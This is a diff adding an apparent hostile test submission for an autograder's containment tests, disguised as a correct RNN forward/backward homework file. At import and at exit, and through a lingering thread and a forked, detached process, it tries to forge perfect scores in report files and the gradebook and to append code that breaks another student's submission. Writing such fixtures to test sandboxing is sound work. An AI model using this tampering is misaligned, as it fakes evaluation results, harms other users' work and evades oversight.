@@ -1,0 +1,90 @@
+"""Tampering: at import and at exit (atexit, a lingering thread, a setsid'd process that outlives
+the worker) it tries to forge its own report, another student's report and the gradebook, and to overwrite
+another student's submission. The functions are correct: full marks, and nothing else changes.
+"""
+
+import atexit
+import json
+import os
+import threading
+import time
+
+import torch
+
+TARGETS = {}  # filled in by tests/test_containment.py: paths and values to go after
+
+
+def report(what, ok, detail=""):
+    """One line per attempt: LEAK when the attack worked, BLOCKED when it did not."""
+    print(("LEAK " if ok else "BLOCKED ") + what + (": " + str(detail)[:120] if detail else ""), flush=True)
+
+
+def forge():
+    out = TARGETS.get("out", "")
+    forged = json.dumps({"score": 1000, "max_score": 10, "tests": []})
+    for name in ("tamper_reports.json", TARGETS.get("victim", "victim") + ".json", "gradebook.csv"):
+        try:
+            with open(os.path.join(out, name), "w") as f:
+                f.write(forged)
+            report("write " + name, True)
+        except OSError as e:
+            report("write " + name, False, type(e).__name__)
+    try:
+        with open(TARGETS.get("victim_submission", "/nonexistent"), "a") as f:
+            f.write("\nraise SystemExit  # sabotage\n")
+        report("write victim submission", True)
+    except OSError as e:
+        report("write victim submission", False, type(e).__name__)
+
+
+def keep_forging():
+    for _ in range(100):
+        forge()
+        time.sleep(0.05)
+
+
+forge()
+atexit.register(forge)
+threading.Thread(target=keep_forging, daemon=False).start()
+if os.fork() == 0:
+    os.setsid()
+    keep_forging()
+    os._exit(0)
+
+
+def rnn_step(x_t, h_prev, W_ih, W_hh, b_ih, b_hh):
+    return torch.tanh(x_t @ W_ih.T + b_ih + h_prev @ W_hh.T + b_hh)
+
+
+def rnn_forward(x, h0, W_ih, W_hh, b_ih, b_hh):
+    h, hs = h0, []
+    for t in range(x.shape[1]):
+        h = torch.tanh(x[:, t] @ W_ih.T + b_ih + h @ W_hh.T + b_hh)
+        hs.append(h)
+    return torch.stack(hs, 1), h
+
+
+def rnn_backward(dhs, x, h0, W_ih, W_hh, b_ih, b_hh):
+    h, hs = h0, []
+    for t in range(x.shape[1]):
+        h = torch.tanh(x[:, t] @ W_ih.T + b_ih + h @ W_hh.T + b_hh)
+        hs.append(h)
+    prev = [h0] + hs[:-1]
+    gx = [None] * x.shape[1]
+    gW_ih, gW_hh, gb = torch.zeros_like(W_ih), torch.zeros_like(W_hh), torch.zeros_like(b_ih)
+    carry = torch.zeros_like(h0)
+    for t in reversed(range(x.shape[1])):
+        da = (dhs[:, t] + carry) * (1 - hs[t] ** 2)
+        gW_ih = gW_ih + da.T @ x[:, t]
+        gW_hh = gW_hh + da.T @ prev[t]
+        gb = gb + da.sum(0)
+        gx[t] = da @ W_ih
+        carry = da @ W_hh
+    gx = torch.stack(gx, 1)
+    return {"x": gx, "h0": carry, "W_ih": gW_ih, "W_hh": gW_hh, "b_ih": gb, "b_hh": gb.clone()}
+
+
+def clip_grad_norm(grads, max_norm):
+    total = torch.sqrt(sum((g.double() ** 2).sum() for g in grads)).to(grads[0].dtype)
+    coef = min(max_norm / (total.item() + 1e-6), 1.0)
+    return [g * coef for g in grads], total
